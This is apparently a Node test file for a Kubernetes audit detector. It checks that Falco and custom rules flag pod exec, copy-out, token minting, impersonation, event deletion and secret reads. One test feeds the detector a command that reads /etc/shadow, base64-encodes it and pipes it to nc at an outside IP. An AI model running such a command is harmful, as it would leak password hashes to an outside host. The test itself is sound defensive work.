// The shipped rule set: the Falco regression events must raise the same detections under the
// same rule names (current names where Falco renamed them), and our own detections fire on
// the events they are about and stay quiet on their look-alikes.
import assert from 'node:assert/strict';
import { createReadStream, readFileSync } from 'node:fs';
import { describe, test } from 'node:test';
import { corpusPath } from '../corpus.js';
import { buildDetector, loadDefaultRules } from '../../src/audit/default-rules.js';
import { Detector } from '../../src/audit/engine.js';
import type { AuditEvent } from '../../src/audit/event.js';
import { readAuditStream } from '../../src/audit/reader.js';
import { loadRuleFiles } from '../../src/audit/rules.js';
import { defaultStatefulDetectors } from '../../src/audit/stateful.js';
import { auditEvent, execEvent } from './events.js';

const ruleSet = loadDefaultRules();

function fired(events: AuditEvent[], withState = false): string[] {
  const d = new Detector(ruleSet, withState ? defaultStatefulDetectors() : []);
  return events.flatMap((ev) => d.process(ev).map((a) => a.rule));
}

/** Falco split these rules by kind after v0.6.0; the trace decides which one applies. */
const RENAMED: Record<string, (trace: string) => string> = {
  'K8s Role/Clusterrole Created': () => 'K8s ClusterRole Created',
  'K8s Role/Clusterrole Deleted': () => 'K8s ClusterRole Deleted',
  'K8s Role/Clusterrolebinding Created': () => 'K8s ClusterRoleBinding Created',
  'K8s Role/Clusterrolebinding Deleted': () => 'K8s ClusterRoleBinding Deleted',
};

describe('default rules on Falco regression events (rows loading only the base rules)', () => {
  const rows = readFileSync(corpusPath('falco-k8saudit', 'EXPECTED.tsv'), 'utf8').trim().split('\n').slice(1).map((l) => l.split('\t'));
  const base = rows.filter((r) => r[2] === 'rules/k8s_audit_rules-v0.6.0.yaml');
  const falcoNames = new Set(readFileSync(corpusPath('falco-k8saudit', 'rules', 'k8s_audit_rules.yaml'), 'utf8').match(/^- rule: *(.+)$/gm)?.map((l) => l.replace(/^- rule: */, '').trim()));
  test('every current Falco k8saudit rule has a rule of the same name in the default set', () => {
    const ours = new Set(ruleSet.rules.map((r) => r.name));
    assert.equal(falcoNames.size, 48);
    assert.deepEqual([...falcoNames].filter((n) => !ours.has(n)), []);
  });
  for (const [name, trace, , detect, , counts] of base) {
    test(name, async () => {
      const events: AuditEvent[] = [];
      await readAuditStream(createReadStream(corpusPath('falco-k8saudit', trace)), trace, (ev) => events.push(ev), () => undefined);
      const got = fired(events);
      const ofFalco = got.filter((r) => falcoNames.has(r));
      if (detect !== 'True') {
        assert.deepEqual(ofFalco, []);
        return;
      }
      for (const part of counts.split(';').filter(Boolean)) {
        const [rule, n] = part.split('=');
        const ours = RENAMED[rule]?.(trace) ?? rule;
        assert.equal(got.filter((r) => r === ours).length, Number(n), ours);
      }
    });
  }
});

test('a second rule set runs beside the defaults with its own names and macros', async () => {
  const { detector, ruleSets } = buildDetector([], [corpusPath('falco-k8saudit', 'rules', 'k8s_audit_rules-v0.6.0.yaml')]);
  assert.equal(ruleSets.length, 2);
  const events: AuditEvent[] = [];
  const trace = 'falco-tests/trace_files/k8s_audit/exec_pod.json';
  await readAuditStream(createReadStream(corpusPath('falco-k8saudit', trace)), trace, (ev) => events.push(ev), () => undefined);
  const rules = events.flatMap((ev) => detector.process(ev).map((a) => a.rule)).sort();
  assert.deepEqual(rules, ['Attach/Exec Pod', 'Attach/Exec Pod', 'Exec Into Pod by Human']);
});

test("Falco's GKE overlay (override: exceptions/items append) loads over the current rules and takes effect", () => {
  const files = ['k8s_audit_rules.yaml', 'k8s_audit_rules_gke.yaml'].map((f) => corpusPath('falco-k8saudit', 'rules', f));
  const robot = auditEvent({ user: { username: 'service-42@container-engine-robot.iam.gserviceaccount.com' } });
  const person = auditEvent({ user: { username: 'mallory@example.com' } });
  const base = new Detector(loadRuleFiles(files.slice(0, 1)));
  const withGke = new Detector(loadRuleFiles(files));
  const disallowed = (d: Detector, ev: AuditEvent) => d.process(ev).some((a) => a.rule === 'Disallowed K8s User');
  assert.equal(disallowed(base, robot), true);
  assert.equal(disallowed(withGke, robot), false);
  assert.equal(disallowed(withGke, person), true);
  const pod = (image: string) =>
    auditEvent({ verb: 'create', code: 201, objectRef: { resource: 'pods', namespace: 'kube-system' }, requestObject: { spec: { containers: [{ image, securityContext: { privileged: true } }] } } });
  const privileged = (d: Detector, ev: AuditEvent) => d.process(ev).some((a) => a.rule === 'Create Privileged Pod');
  assert.equal(privileged(base, pod('gke.gcr.io/netd:v1')), true);
  assert.equal(privileged(withGke, pod('gke.gcr.io/netd:v1')), false);
  assert.equal(privileged(withGke, pod('evil.example/miner:1')), true);
});

describe('detections of our own', () => {
  test('exec by a person, not by a service account', () => {
    assert.ok(fired([execEvent(['sh'])]).includes('Exec Into Pod by Human'));
    const bySa = execEvent(['sh'], { user: { username: 'system:serviceaccount:ci:runner' } });
    assert.ok(!fired([bySa]).includes('Exec Into Pod by Human'));
    assert.ok(fired([bySa]).includes('Attach/Exec Pod'));
  });
  test('kubectl cp (tar over exec) is copy-out; ls is not', () => {
    assert.ok(fired([execEvent(['tar', 'cf', '-', '/var/lib/data'])]).includes('Copy Out of Pod via Exec'));
    assert.ok(!fired([execEvent(['ls', '/tmp'])]).includes('Copy Out of Pod via Exec'));
  });
  test('curl, nc and base64 are caught even inside sh -c', () => {
    for (const cmd of [['curl', 'http://x'], ['/usr/bin/wget', 'x'], ['sh', '-c', 'cat /etc/shadow | base64 | nc 1.2.3.4 80']]) {
      assert.ok(fired([execEvent(cmd)]).includes('Network or Encoding Tool Run via Exec'), cmd.join(' '));
    }
    assert.ok(!fired([execEvent(['sh', '-c', 'echo curling'])]).includes('Network or Encoding Tool Run via Exec'));
  });
  test('port-forward', () => {
    const ev = auditEvent({ stage: 'ResponseStarted', verb: 'create', objectRef: { resource: 'pods', namespace: 'db', name: 'pg-0', subresource: 'portforward' }, code: 101 });
    assert.ok(fired([ev]).includes('port-forward'));
  });
  test('service account token minted by a person, not by the kubelet', () => {
    const tokenReq = (user: string) => auditEvent({ verb: 'create', user: { username: user }, objectRef: { resource: 'serviceaccounts', namespace: 'ci', name: 'deployer', subresource: 'token' }, code: 201 });
    assert.ok(fired([tokenReq('mallory')]).includes('Service Account Token Created'));
    assert.ok(!fired([tokenReq('system:node:worker-1')]).includes('Service Account Token Created'));
    const legacy = auditEvent({ verb: 'create', user: { username: 'mallory' }, objectRef: { resource: 'secrets', namespace: 'ci', name: 't' }, requestObject: { type: 'kubernetes.io/service-account-token' }, code: 201 });
    assert.ok(fired([legacy]).includes('Service Account Token Created'));
  });
  test('impersonation, and impersonating system:masters is critical', () => {
    const imp = auditEvent({ user: { username: 'bob' }, impersonatedUser: { username: 'alice', groups: ['dev'] } });
    assert.ok(fired([imp]).includes('Impersonation Used'));
    assert.ok(!fired([imp]).includes('Impersonation of Cluster Administrators'));
    const masters = auditEvent({ user: { username: 'bob' }, impersonatedUser: { username: 'x', groups: ['system:masters'] } });
    assert.ok(fired([masters]).includes('Impersonation of Cluster Administrators'));
    assert.ok(!fired([auditEvent()]).includes('Impersonation Used'));
  });
  test('deleting events is evasion; the controller doing it is not', () => {
    const del = (user: string) => auditEvent({ verb: 'deletecollection', user: { username: user }, objectRef: { resource: 'events', namespace: 'prod' } });
    assert.ok(fired([del('mallory')]).includes('Events Deleted'));
    assert.ok(!fired([del('system:serviceaccount:kube-system:event-ttl')]).includes('Events Deleted'));
  });
  test('a burst of 403s from one identity fires once; spread-out refusals do not', () => {
    const burst = Array.from({ length: 15 }, (_, i) => auditEvent({ code: 403, at: `2026-03-01T10:00:${String(i * 2).padStart(2, '0')}Z`, user: { username: 'mallory' } }));
    assert.equal(fired(burst, true).filter((r) => r === 'Burst of Forbidden Requests').length, 1);
    const slow = Array.from({ length: 15 }, (_, i) => auditEvent({ code: 403, at: `2026-03-01T${String(10 + i).padStart(2, '0')}:00:00Z`, user: { username: 'mallory' } }));
    assert.equal(fired(slow, true).filter((r) => r === 'Burst of Forbidden Requests').length, 0);
    const many = Array.from({ length: 15 }, (_, i) => auditEvent({ code: 403, at: `2026-03-01T10:00:${String(i * 2).padStart(2, '0')}Z`, user: { username: `user${i}` } }));
    assert.equal(fired(many, true).filter((r) => r === 'Burst of Forbidden Requests').length, 0);
  });
  test('a new source address for a known person fires; the first sighting and repeats do not', () => {
    const at = (ip: string) => auditEvent({ sourceIPs: [ip], user: { username: 'alice' } });
    assert.deepEqual(fired([at('10.0.0.1'), at('10.0.0.1')], true).filter((r) => r === 'Access From New Source IP'), []);
    assert.equal(fired([at('10.0.0.1'), at('10.0.0.1'), at('203.0.113.9'), at('203.0.113.9')], true).filter((r) => r === 'Access From New Source IP').length, 1);
    const sa = (ip: string) => auditEvent({ sourceIPs: [ip], user: { username: 'system:serviceaccount:a:b' } });
    assert.deepEqual(fired([sa('10.0.0.1'), sa('10.0.0.2')], true).filter((r) => r === 'Access From New Source IP'), []);
  });
  test('every default rule carries a MITRE technique or is routine activity', () => {
    for (const r of ruleSet.rules) {
      assert.ok(r.tags.some((t) => /^T\d{4}(\.\d{3})?$/.test(t)) || r.tags.includes('activity') || r.priority === 'DEBUG', r.name);
    }
  });
});

test('secret reads by people alert; the kubelet reading its pods\' secrets does not', () => {
  const get = (user: string) => auditEvent({ verb: 'get', user: { username: user }, objectRef: { resource: 'secrets', namespace: 'shop', name: 'db' } });
  assert.ok(fired([get('mallory')]).includes('K8s Secret Get Successfully'));
  assert.ok(!fired([get('system:node:worker-1')]).includes('K8s Secret Get Successfully'));
});
